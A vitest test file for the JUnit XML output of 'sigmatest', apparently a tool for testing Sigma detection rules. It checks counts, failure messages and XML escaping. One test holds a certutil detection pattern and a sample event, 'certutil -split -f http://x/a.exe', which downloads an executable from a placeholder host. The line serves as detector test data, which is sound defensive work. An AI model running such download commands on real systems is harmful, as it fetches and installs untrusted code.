import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { describe, expect, it } from 'vitest';
import { renderJunit, xmlAttr, xmlText } from './junit.js';
import type { RunReport } from './model.js';
import { CASE_A_FILE, HOSTILE, cleanReport, sampleReport } from './test-support/sample-report.js';

type Node = Record<string, unknown>;
interface Parsed {
  suites: Node;
  suite: Node[];
}

const ARRAYS = new Set(['testsuite', 'testcase', 'property', 'failure', 'error', 'system-out']);

function parse(xml: string): Parsed {
  expect(XMLValidator.validate(xml)).toBe(true);
  const parser = new XMLParser({
    ignoreAttributes: false,
    attributeNamePrefix: '@_',
    trimValues: false,
    parseAttributeValue: false,
    parseTagValue: false,
    htmlEntities: true,
    isArray: (name) => ARRAYS.has(name),
  });
  const doc = parser.parse(xml) as { testsuites: Node };
  return { suites: doc.testsuites, suite: (doc.testsuites.testsuite as Node[] | undefined) ?? [] };
}

const cases = (s: Node): Node[] => (s.testcase as Node[] | undefined) ?? [];
const num = (n: Node, attr: string): number => Number(n[`@_${attr}`]);

function expectedTotals(r: RunReport): Record<string, number> {
  return {
    tests: r.totals.cases + r.problems.length,
    failures: r.totals.failed + r.totals.problems,
    errors: r.totals.errors,
    skipped: 0,
  };
}

describe('renderJunit (junit.xml)', () => {
  const withoutRuleSummaries = (): RunReport => ({ ...sampleReport(), rules: [] });
  const variants = [['sample', sampleReport], ['clean', cleanReport], ['no rule summaries', withoutRuleSummaries]] as const;
  for (const [label, make] of variants) {
    it(`${label}: parses, and the testsuites counts equal results.json's totals`, () => {
      const report = make();
      const { suites, suite } = parse(renderJunit(report));
      expect(suites['@_name']).toBe('sigmatest');
      for (const [attr, value] of Object.entries(expectedTotals(report))) expect(num(suites, attr), attr).toBe(value);
      for (const attr of ['tests', 'failures', 'errors']) {
        expect(suite.reduce((n, s) => n + num(s, attr), 0), attr).toBe(num(suites, attr));
      }
      const testcases = suite.flatMap(cases);
      expect(testcases).toHaveLength(expectedTotals(report).tests ?? -1);
      expect(testcases.filter((t) => t.failure !== undefined)).toHaveLength(num(suites, 'failures'));
      expect(testcases.filter((t) => t.error !== undefined)).toHaveLength(num(suites, 'errors'));
      expect(testcases.some((t) => t.skipped !== undefined)).toBe(false);
    });
  }

  it('has one suite per rule whose counts equal the rule summary, named by title, with id and path', () => {
    const report = sampleReport();
    const { suite } = parse(renderJunit(report));
    for (const rule of report.rules) {
      const s = suite.find((x) => x['@_name'] === rule.title.replace('\u0000', ''));
      expect(s, rule.title).toBeDefined();
      if (s === undefined) continue;
      expect([num(s, 'tests'), num(s, 'failures'), num(s, 'errors')]).toEqual([rule.cases, rule.failed, rule.errors]);
      expect(cases(s)).toHaveLength(rule.cases);
      const props = ((s.properties as Node).property as Node[]).map((p) => [p['@_name'], p['@_value']]);
      expect(props).toContainEqual(['rule.id', rule.id]);
      expect(props).toContainEqual(['rule.path', rule.path]);
      expect(cases(s).every((t) => t['@_classname'] === rule.path)).toBe(true);
    }
  });

  it('locates every case (file relative to the cwd, line) and explains failures', () => {
    const report = sampleReport();
    const all = parse(renderJunit(report)).suite.flatMap(cases);
    const split = all.find((t) => t['@_name'] === 'split flag variant');
    expect(split?.['@_file']).toBe('cases/certutil.yml');
    expect(CASE_A_FILE.endsWith('cases/certutil.yml')).toBe(true);
    expect(split?.['@_line']).toBe('14');
    const failure = (split?.failure as Node[])[0] as Node;
    expect(failure['@_message']).toBe('event #0 did not match');
    expect(failure['@_type']).toBe('positive-case-missed');
    const text = String(failure['#text']);
    expect(text).toContain('expected: a match on every event');
    expect(text).toContain('actual: 0 of 1 event matched');
    expect(text).toContain("✗ selection_cli");
    expect(text).toContain(`✗ CommandLine|contains|all: '-urlcache', '-f' (event: "certutil -split -f http://x/a.exe")`);
    expect(text).toContain("✓ Image|endswith: '\\certutil.exe'");
    const placeholder = all.find((t) => t['@_name'] === 'placeholder case');
    expect(((placeholder?.error as Node[])[0] as Node)['@_type']).toBe('case-error');
  });

  it('reports every problem in the "sigmatest problems" suite: errors fail, warnings pass with system-out', () => {
    const report = sampleReport();
    const problems = parse(renderJunit(report)).suite.find((s) => s['@_name'] === 'sigmatest problems');
    expect(problems).toBeDefined();
    const tcs = cases(problems ?? {});
    expect(tcs).toHaveLength(report.problems.length);
    report.problems.forEach((p, i) => {
      const tc = tcs[i] ?? {};
      expect(tc['@_line']).toBe(String(p.span.line));
      if (p.severity === 'error') expect(((tc.failure as Node[])[0] as Node)['@_type']).toBe(p.code);
      else expect([tc.failure, tc['system-out']]).toEqual([undefined, [expect.stringContaining(p.code)]]);
    });
  });

  it('escapes hostile text: no NUL or other illegal character, no raw ]]>, attributes round-trip', () => {
    const xml = renderJunit(sampleReport());
    expect(xml).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F]/);
    expect(xml).not.toContain(']]>');
    const names = parse(xml).suite.flatMap(cases).map((t) => t['@_name']);
    expect(names).toContain(`hostile ${HOSTILE.replace('\u0000', '')}`);
    expect(xmlAttr('a"b\'<&>\n\t\r')).toBe('a&quot;b&apos;&lt;&amp;&gt;&#10;&#9;&#13;');
    expect(xmlText('x]]>\u0000\uD800y\u{1F600}')).toBe('x]]&gt;y\u{1F600}');
  });
});
